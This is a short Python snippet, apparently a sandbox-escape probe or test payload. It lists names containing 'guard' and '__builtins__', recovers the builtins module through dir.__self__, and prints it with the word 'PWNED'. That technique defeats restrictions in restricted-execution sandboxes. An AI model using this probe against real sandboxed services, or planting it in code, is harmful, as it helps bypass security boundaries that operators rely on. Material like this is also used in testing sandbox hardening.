names = [n for n in dir() if "guard" in n or n == "__builtins__"]
f = getattr(dir, "__self__")
print("PWNED", f)
